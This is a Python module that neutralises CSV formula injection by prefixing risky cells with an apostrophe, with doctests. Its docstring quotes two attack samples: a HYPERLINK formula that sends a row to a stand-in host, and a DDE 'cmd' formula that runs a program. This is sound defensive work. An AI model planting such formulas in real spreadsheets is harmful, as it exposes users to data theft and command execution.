"""CSV cells a spreadsheet will not run: the one rule every CSV the project writes goes through.

A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and one starting with a tab or a carriage return may be read as one after the program trims it):
``=HYPERLINK("http://x/?"&A1)`` in a name sends a row away, ``=cmd|' /C calc'!A0`` runs a program
(OWASP, "CSV Injection"). Such a cell gets a leading ``'``, which spreadsheets show as text and which
a person or program can strip to get the value back.

Numbers are left as they are: a cell that is only a number (``-3``, ``-117.03``, ``+52``, ``1e-5``) is
read as that number by Excel, LibreOffice and Google Sheets, never as a formula, and coordinates and
E.164 phone numbers stay usable. Anything else starting with those characters is prefixed, ``-2+3``
and ``+1 619 555 0100`` included.

Used by ``chokepoint query run`` and ``chokepoint cypher`` (``--format csv``, unless ``--raw``), the
app's exports (query rows, canvas nodes and links, the metrics tables) and the loaders' rejects
reports. JSON, GraphML and GEXF keep exact values: no reader runs them.

>>> [neutralise(v) for v in ("=1+1", "+1 619 555 0100", "-2+3", "@SUM(A1)", "\\tx", "\\r=1", "Ana")]
["'=1+1", "'+1 619 555 0100", "'-2+3", "'@SUM(A1)", "'\\tx", "'\\r=1", 'Ana']
>>> [neutralise(v) for v in ("-3", "-3.5", "+52", "1e-5", "-", "", "'=1")]
['-3', '-3.5', '+52', '1e-5', "'-", '', "'=1"]
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

__all__ = ["TRIGGERS", "neutralise", "safe_row", "writer"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z")


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when it starts with a formula character and is not a plain number."""
    if text and text.startswith(TRIGGERS) and not _NUMBER.match(text):
        return "'" + text
    return text


def safe_row(cells: Iterable[Any], raw: bool = False) -> list[Any]:
    """A row's cells with every text cell :func:`neutralise`\\ d (all of them as given when ``raw``).

    >>> safe_row(["=A1", 3, None, -2.5])
    ["'=A1", 3, None, -2.5]
    """
    if raw:
        return list(cells)
    return [neutralise(c) if isinstance(c, str) else c for c in cells]


class _SafeWriter:
    def __init__(self, f: TextIO, raw: bool, options: dict[str, Any]):
        self._inner, self._raw = csv.writer(f, **options), raw
        # csv quotes a cell holding a line end only if it is in the writer's lineterminator: a bare CR
        # in a cell would start a new line in any reader (and that line could start with a formula)
        self._quoted = csv.writer(f, **{**options, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = safe_row(row, self._raw)
        breaks = any(isinstance(c, str) and ("\r" in c or "\n" in c) for c in cells)
        return (self._quoted if breaks else self._inner).writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: TextIO, raw: bool = False, **options: Any) -> _SafeWriter:
    """``csv.writer(f, **options)`` whose rows go through :func:`safe_row` (headers too: a column may be
    named by a file or a query). ``raw=True`` writes the exact values, for ``--raw``.

    >>> import io
    >>> out = io.StringIO()
    >>> writer(out, lineterminator="\\n").writerows([["name"], ["=1+1"], ["-3"]])
    >>> out.getvalue()
    "name\\n'=1+1\\n-3\\n"

    A row with a line break in a cell is written with every cell quoted, a bare CR too:

    >>> out = io.StringIO()
    >>> _ = writer(out, lineterminator="\\n").writerow(["a\\r=1+1", 2])
    >>> out.getvalue()
    '"a\\r=1+1","2"\\n'
    """
    return _SafeWriter(f, raw, options)
